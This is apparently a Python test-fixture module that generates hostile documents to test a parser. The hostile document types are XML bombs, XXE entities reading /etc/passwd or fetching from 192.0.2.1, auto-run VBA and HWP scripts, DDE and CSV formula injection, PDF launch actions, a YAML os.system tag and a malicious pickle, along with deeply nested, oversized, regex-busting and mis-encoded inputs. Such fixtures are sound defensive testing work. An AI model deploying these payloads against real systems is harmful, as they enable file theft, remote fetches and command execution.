"""Hostile contents: markup that multiplies, reaches out, nests or never ends; records and numbers that lie."""

from __future__ import annotations

import struct
from collections.abc import Iterator

from tests.hostile import seeds

Files = Iterator[tuple[str, bytes]]
MEGA = 1 << 20
CANARY = "root:x:0:0"
"""How `/etc/passwd` begins: in no chunk, whatever a file asks for."""

_LAUGHS = '<!ENTITY a0 "lol">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
_QUADRATIC = f'<!ENTITY a9 "{"x" * 100_000}">'
_PROSE = f"{seeds.WORDS} " * 20


def _into_package(kind: str, doctype: str, reference: str) -> bytes:
    """A file of this kind whose main XML begins with `doctype` and shows `reference`."""
    match kind:
        case "docx":
            text = seeds.part(seeds.docx(), "word/document.xml").replace("한도", reference, 1)
            return seeds.with_parts(seeds.docx(), {"word/document.xml": _headed(text, doctype)})
        case "xlsx":
            text = seeds.part(seeds.xlsx(), "xl/worksheets/sheet1.xml").replace("등급", reference, 1)
            return seeds.with_parts(seeds.xlsx(), {"xl/worksheets/sheet1.xml": _headed(text, doctype)})
        case "pptx":
            text = seeds.part(seeds.pptx(), "ppt/slides/slide1.xml").replace("안건", reference, 1)
            return seeds.with_parts(seeds.pptx(), {"ppt/slides/slide1.xml": _headed(text, doctype)})
        case "hwpx":
            return seeds.hwpx(_headed(seeds.hwpx_section(seeds.hwpx_paragraph(f"{seeds.WORDS}{reference}")), doctype))
        case "hpf.hwpx":
            manifest = f'<opf:package xmlns:opf="http://www.idpf.org/2007/opf/"><opf:title>{reference}</opf:title></opf:package>'
            return seeds.hwpx(extra={"Contents/content.hpf": f'<?xml version="1.0"?>{doctype}{manifest}'})
        case "epub":
            return seeds.epub(
                f'<?xml version="1.0"?>{doctype}<html><body><p>{seeds.WORDS}{reference}</p></body></html>'
            )
        case "odt":
            return seeds.odt(f"<text:p>{seeds.WORDS}{reference}</text:p>", doctype)
        case _:
            return f'<?xml version="1.0"?>{doctype}<d>{_PROSE}{reference}</d>'.encode()


def _headed(xml: str, doctype: str) -> str:
    declaration, end, rest = xml.partition("?>")
    return declaration + end + doctype + rest if end else doctype + xml


_KINDS = ("docx", "xlsx", "pptx", "hwpx", "hpf.hwpx", "epub", "odt", "xml")


def xml_bombs() -> Files:
    """Entities that multiply."""
    for kind in _KINDS:
        yield f"laughs.{kind}", _into_package(kind, f"<!DOCTYPE d [{_LAUGHS}]>", "&a9;")
        yield f"quadratic.{kind}", _into_package(kind, f"<!DOCTYPE d [{_QUADRATIC}]>", "&a9;" * 2_000)


def xxe() -> Files:
    """Entities, styles and includes that name files and hosts."""
    for kind in _KINDS:
        file = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        host = (
            '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://192.0.2.1/a.dtd"> %p; <!ENTITY x SYSTEM "http://192.0.2.1/x">]>'
        )
        yield f"file.{kind}", _into_package(kind, file, "&x;")
        yield f"host.{kind}", _into_package(kind, host, "&x;")
    yield (
        "dtd.html",
        b'<!DOCTYPE html SYSTEM "http://192.0.2.1/a.dtd" [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>&x;</p>',
    )
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    yield "xinclude.xml", f'<?xml version="1.0"?><d>{_PROSE}{include}</d>'.encode()
    yield "xinclude.hwpx", seeds.hwpx(seeds.hwpx_section(seeds.hwpx_paragraph("글") + include))
    style = '<?xml-stylesheet type="text/xsl" href="http://192.0.2.1/a.xsl"?>'
    yield "stylesheet.xml", f'<?xml version="1.0"?>{style}<d>{_PROSE}</d>'.encode()


def external_links() -> Files:
    """What asks a reader to fetch something."""
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        'Target="{target}" TargetMode="External"/></Relationships>'
    )
    for kind in ("attachedTemplate", "image", "oleObject", "subDocument", "frame"):
        linked = relations.format(kind=kind, target="http://192.0.2.1/a.dotm")
        yield f"{kind}.docx", seeds.with_parts(seeds.docx(), {"word/_rels/settings.xml.rels": linked})
    linked = relations.format(kind="externalLinkPath", target="file://192.0.2.1/share/a.xlsx")
    namespace = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    book = f'<externalLink xmlns="{namespace}"><ddeLink ddeService="cmd"/></externalLink>'
    parts = {"xl/externalLinks/externalLink1.xml": book, "xl/externalLinks/_rels/externalLink1.xml.rels": linked}
    yield "externalLink.xlsx", seeds.with_parts(seeds.xlsx(), parts)
    picture = '<hp:pic><hc:img binaryItemIDRef="http://192.0.2.1/a.png"/></hp:pic>'
    yield "picture.hwpx", seeds.hwpx(seeds.hwpx_section(seeds.hwpx_paragraph("글", picture)))
    field = '<hp:ctrl><hp:fieldBegin type="HYPERLINK" command="http://192.0.2.1/;1;0;0;"/></hp:ctrl>'
    yield "field.hwpx", seeds.hwpx(seeds.hwpx_section(seeds.hwpx_paragraph("글", field)))
    page = (
        '<html><head><link rel=stylesheet href="http://192.0.2.1/a.css"><base href="http://192.0.2.1/">'
        '<meta http-equiv=refresh content="0;url=http://192.0.2.1/"></head><body background="//192.0.2.1/a.png">'
        '<img src="http://192.0.2.1/a.png" alt="그림"><iframe src="file:///etc/passwd"></iframe><p>글</p></body></html>'
    )
    yield "page.html", page.encode()
    yield "page.mhtml", seeds.mhtml(page)
    yield "page.epub", seeds.epub(page)
    yield (
        "include.rst",
        b"a\n=\n\n.. include:: /etc/passwd\n\n.. raw:: html\n   :url: http://192.0.2.1/\n\n"
        b".. csv-table::\n   :file: /etc/passwd\n",
    )
    yield (
        "figure.rst",
        b".. figure:: /etc/passwd\n   :figwidth: image\n\n.. image:: http://192.0.2.1/a.png\n   :alt: a\n",
    )
    yield (
        "include.adoc",
        b"= a\n\ninclude::/etc/passwd[]\n\ninclude::http://192.0.2.1/a[]\n\nimage::http://192.0.2.1/a.png[a]\n",
    )
    yield (
        "include.md",
        b"---\ntitle: !!python/object/apply:os.system ['id']\n---\n![a](http://192.0.2.1/a.png)\n<img src=//192.0.2.1>\n",
    )
    yield "body.eml", seeds.mail().replace(b"MIME-Version", b"X-A: http://192.0.2.1/\nMIME-Version")
    external = (
        b'Content-Type: message/external-body; access-type=URL; URL="http://192.0.2.1/"\n\nContent-Type: text/plain\n\n'
    )
    yield "external-body.eml", b"From: a@b.kr\nTo: b@b.kr\nSubject: a\nMIME-Version: 1.0\n" + external


def macros() -> Files:
    """Programs inside documents."""
    vba = seeds.compound({"VBA/ThisDocument": b'Sub AutoOpen()\nShell "calc"\nEnd Sub'.ljust(5000)})
    types = seeds.part(seeds.docx(), "[Content_Types].xml").replace(
        "wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml"
    )
    yield "macro.docm", seeds.with_parts(seeds.docx(), {"word/vbaProject.bin": vba, "[Content_Types].xml": types})
    yield "macro.docx", seeds.with_parts(seeds.docx(), {"word/vbaProject.bin": vba})
    yield "macro.xlsm", seeds.with_parts(seeds.xlsx(), {"xl/vbaProject.bin": vba})
    sheet = seeds.part(seeds.xlsx(), "xl/worksheets/sheet1.xml")
    yield "dde.xlsx", seeds.with_parts(seeds.xlsx(), {
        "xl/worksheets/sheet1.xml": sheet.replace("SUM(B2:B2)", "cmd|' /C calc'!A0")
    })  # fmt: skip
    yield "formula.csv", "=cmd|' /C calc'!A0,=HYPERLINK(\"http://192.0.2.1/\"),@SUM(1)\n한도,값,글\n".encode()
    script = "function OnDocument_Open() { new ActiveXObject('WScript.Shell').Run('calc'); }"
    yield "script.hwpx", seeds.hwpx(extra={"Scripts/sourceScripts": script, "Scripts/headerScripts": "var a;"})
    yield "script.hwp", seeds.hwp().replace(b"P\0r\0v\0T\0e\0x\0t", b"S\0c\0r\0i\0p\0t\0s")
    yield "vba.doc", seeds.compound({"WordDocument": b"a" * 5000, "Macros/VBA": b"Attribut".ljust(5000)})
    action = b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://192.0.2.1'\\)) >>"
    stream = seeds.pdf_stream(seeds.TEXT_STREAM)
    yield "script.pdf", seeds.pdf_page(stream, catalogue=action)
    yield "launch.pdf", seeds.pdf_page(stream, catalogue=b"/OpenAction << /S /Launch /F (/bin/sh) >>")
    yield "script.html", b"<html><body onload=alert(1)><script>fetch('http://192.0.2.1')</script><p>a</p></body></html>"
    yield (
        "script.hta",
        b'<html><hta:application><script language=vbscript>CreateObject("WScript.Shell").Run "calc"</script>a</html>',
    )
    yield "script.xml", f'<d xmlns:x="urn:x"><x:script>{script}</x:script>{_PROSE}</d>'.encode()
    yield "template.py", b"import os\nos.system('id')\n__import__('pickle').loads(b'cos\\nsystem\\n(S\"id\"\\ntR.')\n"
    yield (
        "pickle.bin",
        b"\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.",
    )


def pdf_loops() -> Files:
    """Objects of a PDF that lead back to themselves."""
    text = seeds.pdf_stream(seeds.TEXT_STREAM)
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
    catalogue = b"<< /Type /Catalog /Pages 2 0 R >>"
    yield "tree-in-itself.pdf", seeds.pdf([catalogue, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"])
    yield "tree-in-a-circle.pdf", seeds.pdf([
        catalogue, b"<< /Type /Pages /Kids [3 0 R] /Count 9 >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>"
    ])  # fmt: skip
    yield (
        "millions-of-pages.pdf",
        seeds.pdf([catalogue, b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>", page, text]),
    )
    yield "one-page-many-times.pdf", seeds.pdf([
        catalogue, b"<< /Type /Pages /Kids [%s] /Count 50000 >>" % (b"3 0 R " * 50_000), page, text
    ])  # fmt: skip
    yield "contents-in-itself.pdf", seeds.pdf_page(b"[4 0 R 4 0 R]")
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 4 0 R >> >>"
    yield "form-in-itself.pdf", seeds.pdf_page(seeds.pdf_stream(b"/F Do /F Do", form))
    yield "length-of-itself.pdf", seeds.pdf_page(b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream")
    yield "filter-of-itself.pdf", seeds.pdf_page(b"<< /Length 5 /Filter 4 0 R >>\nstream\nBT ET\nendstream")
    good = seeds.pdf_page(text)
    yield "prev-of-itself.pdf", good.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % good.rindex(b"xref\n0"))
    outline = b"/Outlines 6 0 R"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % outline, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, text, b"null",
        b"<< /First 7 0 R /Last 7 0 R >>", b"<< /Title (a) /Next 7 0 R /First 7 0 R /Parent 6 0 R >>",
    ]  # fmt: skip
    yield "outline-in-a-circle.pdf", seeds.pdf(objects)
    yield "parent-of-itself.pdf", seeds.pdf_page(text, page=b"/Parent 3 0 R")
    yield "arrays.pdf", seeds.pdf_page(text, catalogue=b"/A " + b"[" * 100_000)
    yield "dictionaries.pdf", seeds.pdf_page(text, catalogue=b"/A " + b"<< /A " * 50_000 + b">>" * 50_000)
    yield "operators.pdf", seeds.pdf_page(seeds.pdf_stream(b"q " * 500_000 + seeds.TEXT_STREAM))
    yield "numbers.pdf", seeds.pdf_page(seeds.pdf_stream(b"9" * 1_000_000 + b" Tf " + seeds.TEXT_STREAM))


def deep_nesting() -> Files:
    """Markup in markup in markup."""
    for depth in (300, 3_000, 100_000):
        yield f"div-{depth}.html", f"<html><body>{'<div>' * depth}글{'</div>' * depth}</body></html>".encode()
        yield f"table-{depth}.html", f"<html><body>{'<table><tr><td>가<td>' * depth}글".encode()
        yield f"list-{depth}.html", f"<html><body>{'<ul><li>' * depth}글".encode()
        yield f"inline-{depth}.html", f"<html><body><table><tr><td>{'<b>' * depth}글<td>나".encode()
        yield f"element-{depth}.xml", f"<d>{_PROSE}{'<a>' * depth}글{'</a>' * depth}</d>".encode()
        yield f"array-{depth}.json", b"[" * depth + b"1" + b"]" * depth
        yield f"object-{depth}.json", b'{"a":' * depth + b"1" + b"}" * depth
    yield "quotes.md", b">" * 50_000 + b" a\n"
    yield "brackets.md", b"[" * 50_000 + b"a" + b"](b)" * 50_000
    yield "list.md", b"".join(b" " * (2 * n) + b"- a\n" for n in range(1_500))
    yield "emphasis.md", b"*a **b " * 20_000
    yield "sections.rst", "".join(f"a\n{chr(33 + n % 15) * 3}\n\n" for n in range(300)).encode()
    yield "quotes.rst", b"".join(b" " * n + b"a\n\n" for n in range(1, 600))
    yield "lists.adoc", b"".join(b"*" * (n % 6 + 1) + b" a\n" for n in range(20_000))
    yield "blocks.adoc", b"".join(b"=" * (4 + n) + b"\n" for n in range(800))
    nested = "<hp:p><hp:run><hp:t>글</hp:t></hp:run></hp:p>"
    for depth in (5, 50, 500, 5_000):
        inner = nested
        opening = '<hp:p><hp:run><hp:tbl rowCnt="1" colCnt="1"><hp:tr><hp:tc><hp:subList>'
        closing = "</hp:subList></hp:tc></hp:tr></hp:tbl></hp:run></hp:p>"
        yield f"table-{depth}.hwpx", seeds.hwpx(seeds.hwpx_section(opening * depth + inner + closing * depth))
        body = b"".join(seeds.record(66, min(n, 1023), bytes(24)) for n in range(depth))
        yield f"levels-{depth}.hwp", seeds.hwp(body + seeds.hwp_paragraph("글"))
    xml = seeds.part(seeds.docx(), "word/document.xml")
    deep = "<w:tbl><w:tr><w:tc>" * 2_000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 2_000
    yield (
        "table.docx",
        seeds.with_parts(seeds.docx(), {"word/document.xml": xml.replace("<w:sectPr", f"{deep}<w:sectPr", 1)}),
    )
    yield "spans.odt", seeds.odt("<text:span>" * 5_000 + "글" + "</text:span>" * 5_000)


def huge_dimensions() -> Files:
    """Tables and pages as large as a number can say."""
    sheet = seeds.part(seeds.xlsx(), "xl/worksheets/sheet1.xml")
    changes = {
        "dimension": sheet.replace('<dimension ref="', '<dimension ref="A1:XFD1048576" x="', 1),
        "last-cell": sheet.replace("</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'),
        "beyond": sheet.replace(
            "</sheetData>", '<row r="4294967295"><c r="ZZZZ4294967295"><v>1</v></c></row></sheetData>'
        ),
        "merged": sheet.replace(
            "</sheetData>", '</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
        ),
        "many-merged": sheet.replace(
            "</sheetData>",
            "</sheetData><mergeCells>"
            + "".join(f'<mergeCell ref="A{n}:XFD{n}"/>' for n in range(1, 20_000))
            + "</mergeCells>",
        ),
        "far-rows": sheet.replace(
            "</sheetData>",
            "".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(100, 100_000, 50)) + "</sheetData>",
        ),
        "columns": sheet.replace("<sheetData>", '<cols><col min="1" max="2147483647" width="9"/></cols><sheetData>'),
    }
    for label, changed in changes.items():
        yield f"{label}.xlsx", seeds.with_parts(seeds.xlsx(), {"xl/worksheets/sheet1.xml": changed})
    yield (
        "cells.html",
        b"<table border=1>" + b"<tr><td colspan=2147483647 rowspan=2147483647>a<td>b" * 500 + b"</table>",
    )
    yield "spans.html", b"<table border=1><tr>" + b"<td rowspan=200 colspan=200>a" * 300 + b"<tr><td>b" * 300
    yield "columns.csv", b"a," * 500_000 + b"\n" + b"b," * 500_000 + b"\n"
    yield "columns.adoc", b'[cols="2147483647*"]\n|===\n|a |b\n\n99999999*|c\n999.999+|d\n|===\n'
    yield "table.rst", b".. list-table::\n   :widths: 99999999999\n\n   * - a\n     - b\n"
    many = 2**31 - 1
    cell = seeds.hwpx_cell(seeds.hwpx_paragraph("칸"), 0, 0, many, many)
    yield "counts.hwpx", seeds.hwpx(seeds.hwpx_section(seeds.hwpx_paragraph("", seeds.hwpx_table(cell, many, many))))
    far = seeds.hwpx_cell(seeds.hwpx_paragraph("칸"), many, many)
    yield "addresses.hwpx", seeds.hwpx(seeds.hwpx_section(seeds.hwpx_paragraph("", seeds.hwpx_table(far))))
    negative = seeds.hwpx_cell(seeds.hwpx_paragraph("칸"), -1, -5, "-3", "999999999999999999999")
    yield (
        "negative.hwpx",
        seeds.hwpx(seeds.hwpx_section(seeds.hwpx_paragraph("", seeds.hwpx_table(negative, "x", "1e9")))),
    )
    spans = "".join(seeds.hwpx_cell(seeds.hwpx_paragraph("칸"), n, 0, 60_000, 60_000) for n in range(50))
    yield (
        "spans.hwpx",
        seeds.hwpx(seeds.hwpx_section(seeds.hwpx_paragraph("", seeds.hwpx_table(spans, 60_000, 60_000)))),
    )
    yield "table.hwp", seeds.hwp(_hwp_table(65_535, 65_535, 65_535))
    yield "no-cells.hwp", seeds.hwp(_hwp_table(65_535, 65_535, 1, cells=False))
    text = seeds.pdf_stream(seeds.TEXT_STREAM)
    yield "page.pdf", seeds.pdf_page(text, "0 0 1000000 1000000")
    yield "infinite.pdf", seeds.pdf_page(text, "-1e308 -1e308 1e308 1e308")
    yield "far-text.pdf", seeds.pdf_page(seeds.pdf_stream(b"BT /F1 1e9 Tf 1e30 -1e30 Td (far) Tj ET"))
    yield "unit.pdf", seeds.pdf_page(text, page=b"/UserUnit 1e30 /Rotate 2147483647")
    xml = seeds.part(seeds.docx(), "word/document.xml").replace("<w:tcPr>", '<w:tcPr><w:gridSpan w:val="2147483647"/>')
    yield "grid.docx", seeds.with_parts(seeds.docx(), {"word/document.xml": xml})
    repeated = '<table:table><table:table-row table:number-rows-repeated="1048576"><table:table-cell '
    repeated += (
        'table:number-columns-repeated="16384"><text:p>칸</text:p></table:table-cell></table:table-row></table:table>'
    )
    yield "repeated.odt", seeds.odt(repeated)
    yield "repeated-blanks.odt", seeds.odt('<text:p>가<text:s text:c="2147483647"/>나</text:p>')


def _hwp_table(rows: int, columns: int, span: int, *, cells: bool = True) -> bytes:
    """A paragraph with a table control, and one cell that claims to span it (format specification 4.3.9)."""
    control = struct.pack("<H", 11) + b" lbt" + bytes(8) + struct.pack("<H", 11)
    header = struct.pack("<IIHBBHHHI", 9 | 0x80000000, 1 << 11, 0, 0, 0, 1, 1, 0, 0)
    body = seeds.record(66, 0, header) + seeds.record(67, 1, control + "\r".encode("utf-16-le"))
    body += seeds.record(71, 1, b" lbt" + bytes(40))
    body += seeds.record(77, 2, struct.pack("<IHHH", 0, rows, columns, 0) + bytes(8) + struct.pack("<H", 1) * 8)
    if cells:
        cell = struct.pack("<HIH", 1, 0, 0) + struct.pack("<HHHH", 0, 0, span, span) + bytes(18)
        body += seeds.record(72, 2, cell) + seeds.hwp_paragraph("칸", 2)
    return body


def formulas() -> Files:
    """Formulas that share, refer to themselves, or go on."""
    sheet = seeds.part(seeds.xlsx(), "xl/worksheets/sheet1.xml")

    def book(rows: str) -> bytes:
        return seeds.with_parts(
            seeds.xlsx(), {"xl/worksheets/sheet1.xml": sheet.replace("</sheetData>", f"{rows}</sheetData>")}
        )

    shared = '<row r="100"><c r="A100"><f t="shared" ref="A100:XFD1048576" si="0">A100+1</f></c></row>'
    yield "shared.xlsx", book(shared)
    yield (
        "orphans.xlsx",
        book("".join(f'<row r="{n}"><c r="A{n}"><f t="shared" si="{n}"/></c></row>' for n in range(100, 20_000))),
    )
    yield "circle.xlsx", book('<row r="100"><c r="A100"><f>B100</f></c><c r="B100"><f>A100</f></c></row>')
    yield "long.xlsx", book(f'<row r="100"><c r="A100"><f>{"1+" * 500_000}1</f><v>1</v></c></row>')
    yield "deep.xlsx", book(f'<row r="100"><c r="A100"><f>{"(" * 50_000}1{")" * 50_000}</f></c></row>')
    yield "array.xlsx", book('<row r="100"><c r="A100"><f t="array" ref="A1:XFD1048576">ROW(A:XFD)</f></c></row>')
    strings = (
        "<sst xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'>"
        + "<si><t>가</t></si>" * 300_000
        + "</sst>"
    )
    yield "strings.xlsx", seeds.with_parts(seeds.xlsx(), {"xl/sharedStrings.xml": strings})
    formats = '<numFmts><numFmt numFmtId="164" formatCode="' + "[Red]#,##0;" * 20_000 + '"/></numFmts>'
    styles = seeds.part(seeds.xlsx(), "xl/styles.xml").replace("<fonts", f"{formats}<fonts", 1)
    yield "formats.xlsx", seeds.with_parts(seeds.xlsx(), {"xl/styles.xml": styles})


def huge_lines() -> Files:
    """Much of one thing. Korean ones are shorter: morphemes are found at 50,000 characters a second and core."""
    sentence = "The credit department sets the limit of every branch once a year and reports it to the board. "
    yield "ten-megabytes.txt", (sentence + "\n").encode() * 105_000
    yield "rows.csv", b"id,name,limit\n" + b"".join(b"%d,name %d,%d\n" % (n, n, n * 7) for n in range(300_000))
    yield "one-line.txt", b"a" * 10 * MEGA
    yield "one-line-of-words.txt", ("한도 " * 40_000).encode()
    yield "one-line.md", ("한도는 **10억** 입니다 " * 8_000).encode()
    yield "one-line.html", b"<html><body><p>" + b"word " * 500_000 + b"</p></body></html>"
    yield "one-line.json", b'{"a": "' + b"word " * 500_000 + b'"}'
    yield "one-cell.csv", b'a,b\n"' + b"x" * 9 * MEGA + b'",1\n'
    yield "one-value.xml", f"<d>{sentence * 20_000}</d>".encode()
    yield "one-line.rst", b"a" * 3 * MEGA
    yield "one-line.adoc", b"*a* " * 200_000
    yield "one-line.py", b"x = '" + b"a" * 5 * MEGA + b"'\n"
    yield "one-cue.vtt", b"WEBVTT\n\n00:01.000 --> 00:02.000\n" + b"<v a>word " * 100_000
    yield "lines.txt", b"a\n" * 500_000
    yield "blank-lines.txt", b"\n" * 5_000_000 + b"a"
    yield "paragraphs.txt", b"limit\n\n" * 400_000
    yield "rows.jsonl", b"".join(b'{"id": %d, "name": "n%d"}\n' % (n, n) for n in range(50_000))
    yield "rows.html", b"<table border=1>" + b"<tr><td>a<td>b" * 50_000 + b"</table>"
    yield "headings.md", b"# a\n\nb\n\n" * 5_000
    yield "items.adoc", b"* a\n" * 50_000


def endless_patterns() -> Files:
    """Texts made to keep a regular expression busy."""
    pieces = {
        "dots": "." * 200_000, "numbers": "1." * 100_000, "articles": "제1조(" * 50_000, "articles-open": "제1조(목적" * 30_000,
        "leaders": "목차 " + ". . " * 50_000, "leaders-spaced": "목차" + " " * 200_000 + "1", "parts": "제1장 " * 50_000,
        "brackets": "[[" * 100_000, "comments": "<!--" * 50_000, "comments-spaced": "<!-- -->" * 20_000 + "<",
        "tags": "<a " * 80_000, "attributes": "<a b='" * 40_000, "headers": "From: a\n" * 30_000, "colons": "a:" * 100_000,
        "stars": "*" * 100_000, "underscores": "_a" * 60_000, "backticks": "`" * 100_000, "pipes": "|" * 100_000,
        "braces": "{{" * 80_000, "spaces": " " * 500_000 + "a", "annex": "[별표 " * 40_000, "bullets": "가." * 80_000,
        "zero-width": "a\u200b" * 80_000, "arrows": "00:00:00,000 -->" * 20_000, "declaration": "<?xml " * 40_000,
        "styles": "<style>" + "@media{" * 20_000, "quotes": "'\"" * 80_000, "tabs": "\t" * 300_000 + "|",
    }  # fmt: skip
    for number, (label, text) in enumerate(pieces.items()):
        kinds = ("txt", "md", "html", "adoc", "rst", "csv", "xml", "eml")
        for extension in dict.fromkeys((kinds[number % 8], kinds[number % 3])):
            yield f"{label}.{extension}", text.encode()


def odd_encodings() -> Files:
    """Bytes that no encoding agrees about."""
    text = f"{seeds.WORDS}\n" * 20
    yield "nul.txt", text.replace(" ", "\0").encode()
    yield "nul.html", f"<html><body><p>{text}\0\0</p></body></html>".encode()
    yield "surrogates.txt", b"\xff\xfe" + b"\x00\xd8" * 500 + text.encode("utf-16-le")
    yield "odd-utf-16.txt", b"\xff\xfe" + text.encode("utf-16-le") + b"a"
    yield "utf-32.txt", b"\xff\xfe\0\0" + b"\xff\xff\xff\x7f" * 100
    yield "overlong.txt", b"\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf" * 300
    yield "utf-7.html", b"<meta charset=utf-7><p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>"
    yield "declared.html", b"<meta charset=no-such-charset><p>a</p>" + text.encode("cp949")
    yield "codec.html", b"<meta charset=rot13><p>a \xb0\xa1</p>" + text.encode("cp949")
    yield "codec-hex.html", b"<meta charset=hex><p>\xb0\xa1 a</p>"
    yield "idna.mhtml", seeds.mhtml().replace(b"charset=utf-8", b"charset=idna")
    yield "unicode-escape.mhtml", seeds.mhtml().replace(b"charset=utf-8", b"charset=unicode_escape")
    yield "two-marks.csv", b"\xef\xbb\xbf\xff\xfe" + text.encode()
    yield "mixed.txt", text.encode() + text.encode("cp949") + text.encode("johab") + text.encode("utf-16-le")
    yield "noise.txt", bytes((i * 197 + i // 7) % 256 for i in range(50_000))
    yield "combining.txt", ("가" + "\u0301" * 100_000 + "\n").encode()
    yield "jamo.txt", ("\u1112\u1161\u11ab" * 100_000).encode()
    yield "expanding.txt", ("\ufdfa" * 100_000).encode()
    yield "encoding.xml", f'<?xml version="1.0" encoding="utf-99"?><d>{_PROSE}</d>'.encode()
    yield "utf-16.hwpx", seeds.hwpx(seeds.hwpx_section(seeds.hwpx_paragraph(seeds.WORDS)).encode("utf-16"))
    yield "cp949.hwpx", seeds.hwpx(seeds.hwpx_section(seeds.hwpx_paragraph(seeds.WORDS)).encode("cp949"))
    yield "nul.hwpx", seeds.hwpx(seeds.hwpx_section(seeds.hwpx_paragraph("가\0나&#0;&#xD800;")))
    yield "surrogates.hwp", seeds.hwp(seeds.record(66, 0, bytes(24)) + seeds.record(67, 1, b"\x00\xd8" * 2_000))


def hwp_records() -> Files:
    """HWP 5 records, flags and controls that lie."""
    good = seeds.hwp_paragraph(seeds.WORDS)
    yield "size-beyond.hwp", seeds.hwp(good + seeds.record(67, 1, b"ab", size=0xFFFFFFF0))
    yield "size-zero.hwp", seeds.hwp(good + seeds.record(67, 1, b"", size=0) * 5_000)
    yield "size-odd.hwp", seeds.hwp(seeds.record(66, 0, bytes(24)) + seeds.record(67, 1, b"\x41\x00\x42"))
    yield "cut-header.hwp", seeds.hwp(good + b"\x42\x00")
    yield "cut-extended.hwp", seeds.hwp(good + struct.pack("<I", 67 | 0xFFF << 20) + b"\x01")
    yield "level-jump.hwp", seeds.hwp(seeds.record(66, 1023, bytes(24)) + seeds.record(67, 1023, b"a\0") + good)
    yield "text-first.hwp", seeds.hwp(seeds.record(67, 5, "고아\r".encode("utf-16-le")) + good)
    yield "controls.hwp", seeds.hwp(seeds.record(66, 0, bytes(24)) + seeds.record(67, 1, b"\x0b\0" * 3_000))
    yield "control-cut.hwp", seeds.hwp(seeds.record(66, 0, bytes(24)) + seeds.record(67, 1, b"\x0b\0 lbt"))
    yield "empty-section.hwp", seeds.hwp(b"")
    yield "garbage-stream.hwp", seeds.hwp(raw=bytes(range(256)) * 40)
    yield "cut-stream.hwp", seeds.hwp(raw=seeds.deflated(good * 500)[:300])
    for flags, label in (
        (0, "plain"),
        (3, "password"),
        (5, "distribution"),
        (0x11, "drm"),
        (0x80, "signed"),
        (0xFFFFFFFF, "all"),
    ):
        yield f"flags-{label}.hwp", seeds.hwp(good * 5, flags=flags)
    yield "version.hwp", seeds.hwp().replace(struct.pack("<I", 0x05000305), b"\xff\xff\xff\xff", 1)
    yield "only-header.hwp", seeds.compound({"FileHeader": b"HWP Document File".ljust(256, b"\0")})
    yield "version-3.hwp", b"HWP Document File V3.00 \x1a\1\2\3\4\5" + bytes(range(256)) * 30
    yield "no-section.hwpx", seeds.hwpx(extra={"Contents/section0.xml": "<a/>"})
    yield (
        "many-sections.hwpx",
        seeds.hwpx(extra={f"Contents/section{n}.xml": seeds.hwpx_section("") for n in range(1, 3_000)}),
    )
    yield "encrypted.hwpx", seeds.hwpx(extra={"META-INF/manifest.xml": (
        '<odf:manifest xmlns:odf="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><odf:file-entry full-path='
        '"Contents/section0.xml"><odf:encryption-data/></odf:file-entry></odf:manifest>'
    )})  # fmt: skip
    yield "hidden.hwpx", seeds.hwpx(seeds.hwpx_section(seeds.hwpx_paragraph("비\u200b밀\u202e글")))
